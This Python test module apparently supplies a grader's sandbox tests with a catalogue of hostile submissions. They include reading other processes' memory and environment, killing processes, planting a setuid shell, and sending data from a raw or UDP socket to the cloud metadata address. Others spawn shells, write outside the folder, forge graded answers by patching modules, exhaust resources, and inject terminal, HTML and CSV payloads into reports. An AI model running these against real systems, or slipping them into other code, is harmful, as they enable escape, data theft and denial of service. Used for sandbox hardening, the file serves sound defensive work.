"""More hostile submissions in the twelve families; `ALL` is every one of them."""
# ruff: noqa: E501 (lines of attacks stand as they are)

from test_grader_hostile import FUNCTIONS, HOSTILE, SPIN, everywhere, sketch

NONCE = """
import os, struct, sys
frame = sys._getframe()
while frame is not None and "nonce" not in frame.f_locals:
    frame = frame.f_back
if frame is not None:
    body = frame.f_locals["nonce"] + struct.pack("<BH", 0, 0)
    for _ in range(3):
        os.write(frame.f_locals.get("responses", 4), struct.pack("<I", len(body)) + body)
return 0
"""
SHAPES = """
import os, struct, sys
frame = sys._getframe()
while frame is not None and "nonce" not in frame.f_locals:
    frame = frame.f_back
item = b"d" + struct.pack("<B4I", 4, *(2**32 - 1,) * 4)
body = frame.f_locals["nonce"] + struct.pack("<BH", 0, 1) + item
os.write(frame.f_locals.get("responses", 4), struct.pack("<I", len(body)) + body)
return 0
"""
STALL = """
import os, struct, time
for fd in range(3, 10):
    try:
        os.write(fd, struct.pack("<I", 1000) + b"x")
    except OSError:
        pass
time.sleep(1000)
"""
KERNEL = """
import os
for name in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kallsyms", "/dev/sda", "/dev/vda",
             "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper"):
    for flags in (os.O_RDWR, os.O_WRONLY):
        try:
            os.close(os.open(name, flags))
        except OSError:
            continue
        raise ValueError("LEAK opened " + name)
"""
NEIGHBOURS = """
import os, glob, signal
own = str(os.getpid())
for path in glob.glob("/proc/[0-9]*"):
    pid = path.rsplit("/", 1)[1]
    if pid == own or pid == "1":
        continue
    for name in ("mem", "environ"):
        try:
            data = open(path + "/" + name, "rb").read(10)
        except (OSError, ValueError):
            continue
        if data and os.stat(path).st_uid != os.getuid():
            raise ValueError("LEAK " + path + name)
    try:
        if os.stat(path).st_uid != os.getuid():
            os.kill(int(pid), signal.SIGTERM)
            raise ValueError("LEAK killed " + pid)
    except OSError:
        pass
"""
DESCENT = """
import os
for name in (".", "..", "../..", "/proc/self/cwd/..", "/proc/self/root", "/proc/1/root"):
    try:
        with open(name + "/minigen-stolen", "xb"):
            pass
    except OSError:
        continue
    if name not in (".", "/proc/self/cwd/.", "/proc/self/root", ".."):
        raise ValueError("LEAK wrote " + name)
"""
LINKS = """
import os
for make, target in ((os.symlink, "CANARY"), (os.symlink, "OUT"), (os.link, "CANARY"),
                     (os.link, "SUBMISSIONS/honest.py")):
    try:
        make(target, "x%d" % abs(hash(target)))
        text = open("x%d" % abs(hash(target)), "rb").read(40)
    except OSError:
        continue
    raise ValueError("LEAK link " + target + str(text))
"""
SETUID = """
import os, shutil
for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(folder + "/minigen-shell", "wb") as file:
            file.write(b"#!/bin/sh\\nid\\n")
        os.chmod(folder + "/minigen-shell", 0o6755)
    except OSError:
        continue
return 0
"""
SOCKETS = """
import socket
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind, 1 if kind == socket.SOCK_RAW else 0)
        if kind == socket.SOCK_RAW:
            raise ValueError("LEAK raw socket")
        s.sendto(b"stolen", ("169.254.169.254", 53))
    except OSError:
        continue
keep = []
for k in range(62000, 65000):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind("\\0minigen homework %d" % k)
        keep.append(s)
    except OSError:
        break
return 0
"""
SPAWN = """
import os, ctypes, multiprocessing
for start in (lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "id"], {}), lambda: os.forkpty(),
              lambda: multiprocessing.Process(target=print).start(),
              lambda: ctypes.CDLL(None).vfork() == 0 and os._exit(0)):
    try:
        result = start()
    except (OSError, ImportError, AttributeError):
        continue
return 0
"""
MODULES = """
import sys, importlib.abc, importlib.machinery
class Mine(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if "numpy" in name:
            raise ImportError("gone")
sys.meta_path.insert(0, Mine())
import numpy
numpy.frombuffer = lambda *a, **k: numpy.zeros(1)
sys.modules["struct"].pack = lambda *a: b""
import struct
struct.unpack = struct.unpack_from = lambda *a: (0,) * 9
"""
WORDS = """
class Odd(BaseException):
    def __str__(self):
        while True:
            pass
raise Odd()
"""
RAISES = """
class Odd(Exception):
    def __str__(self):
        raise KeyboardInterrupt
    __repr__ = __str__
raise Odd()
"""
CHAIN = """
error = ValueError("x" * 1000)
for k in range(100000):
    new = ValueError("y")
    new.__cause__ = error
    error = new
raise error
"""
PAINT = r"raise ValueError('\x1b[2J\x1b]0;gone\x07<img src=x onerror=alert(1)>=cmd|calc!A1\r\n,,100,100')"

MORE = {
    "1 patched modules": sketch(MODULES),
    "1 patched desk": sketch("import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Desk':\n"
                             "        o.answer = lambda *a: (0, [])\n        o.caches = None\n"),
    "1 functions that change": "import sys\n" + sketch() + "def coupling_forward(*a):\n    global coupling_backward\n"
                               "    coupling_backward = None\n    return None\n",
    "2 masked arrays": sketch("import numpy as np\nm = lambda a: np.ma.masked_all(np.shape(a))\n", y="m(x)",
                              l="m(x[:, 0])", g="tuple(map(m, cache))", y0="m(y)", l0="m(y[:, 0])", y2="m(y2)"),
    "2 objects in arrays": sketch("import numpy as np\nclass E(float):\n    __eq__ = __le__ = lambda *a: True\n"
                                  "o = lambda a: np.full(np.shape(a), E(0), object)\n", y="o(x)", l="o(x[:, 0])",
                                  g="tuple(map(o, cache))", y0="o(y)", l0="o(y[:, 0])", y2="o(y2)"),
    "2 array interface": sketch("class A:\n    __array_interface__ = {'shape': (1 << 20,), 'typestr': '<f8',\n"
                                "        'data': (8, False), 'version': 3}\n", y="A()", l="A()", y2="A()"),
    "2 long doubles": sketch(y="x.astype(np.longdouble)", g="tuple(a.astype('f2') for a in cache)"),
    "2 broadcast": sketch(y="np.broadcast_to(0.0, (1 << 40,))", y2="np.broadcast_to(0.0, (1 << 16, 1 << 16))"),
    "3 closes its pipes": everywhere("import os\nos.closerange(0, 64)\nreturn 0"),
    "3 stops itself": everywhere("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nreturn 0"),
    "3 a deep stack": everywhere("import sys\nsys.setrecursionlimit(1 << 30)\ndef f(n): return f(n + 1)\nf(0)"),
    "3 words without end": everywhere(WORDS),
    "3 words that raise": everywhere(RAISES),
    "4 answers for others": everywhere(NONCE),
    "4 shapes that overflow": everywhere(SHAPES),
    "4 half an answer": everywhere(STALL),
    "4 paints the report": everywhere(PAINT),
    "5 reads the requests": everywhere("import os\nfor fd in range(3, 16):\n    try:\n        os.set_blocking(fd, False)\n"
                                       "        os.read(fd, 1 << 16)\n    except OSError:\n        pass\nreturn 0"),
    "5 other handles": everywhere("import gc\nd = [o for o in gc.get_objects() if type(o).__name__ == 'Desk']\n"
                                  "d[0].caches.clear()\nd[0].module = None\nreturn 0, 0, (0,)"),
    "6 kernel and devices": everywhere(KERNEL),
    "6 neighbours": everywhere(NEIGHBOURS),
    "6 links": everywhere(LINKS),
    "6 above its folder": everywhere(DESCENT + "return 0"),
    "8 a long power": everywhere("return len(str(9 ** 9 ** 9))"),
    "8 a slow pattern": everywhere("import re\nreturn re.match('(a+)+$', 'a' * 64 + 'b')"),
    "8 waits for itself": everywhere("import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()"),
    "8 loops when it is freed": everywhere("class Last:\n    def __del__(self):\n        while True:\n            pass\nLast()\nreturn 0"),
    "8 generators": sketch(y="(k for k in iter(int, 1))", g="iter(int, 1)", y0="list(iter(int, 1))"),
    "8 only when asked again": sketch("N = [0]\ndef late():\n    N[0] += 1\n    while N[0] > 3:\n        pass\n    return 0\n",
                                      y="x * late()", y0="y * late()", y2="y2 * late()"),
    "9 spawns": everywhere(SPAWN),
    "10 sparse file": everywhere("f = open('big', 'wb')\nf.truncate(1 << 40)\nreturn 0"),
    "10 inodes": everywhere("k = 0\nwhile True:\n    k += 1\n    open('i%d' % k, 'wb').close()"),
    "10 shared memory": everywhere("import mmap\nkeep = []\nwhile True:\n    keep.append(mmap.mmap(-1, 1 << 28))\n    keep[-1][::4096] = bytes(1 << 16)"),
    "10 threads": everywhere(SPIN + "while True:\n    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"),
    "10 chain of errors": everywhere(CHAIN),
    "10 stderr": everywhere("import sys, os\nwhile True:\n    os.write(2, b'x' * (1 << 20))"),
    "11 sockets": everywhere(SOCKETS),
    "11 a setuid file": everywhere(SETUID),
    "12 an empty answer": sketch(y="np.zeros((0, 0))", l="np.zeros(0)", g="(np.zeros(0),) * 5", y0="np.zeros(0)", y2="np.zeros(0)"),
    "12 strings of numbers": sketch(y="x.astype(str)", l="'0'", g="tuple(str(a) for a in cache)", y2="y2.tolist()"),
}  # fmt: skip
ALL = HOSTILE | MORE
assert len(FUNCTIONS) == 5 and len(ALL) == len(HOSTILE) + len(MORE)
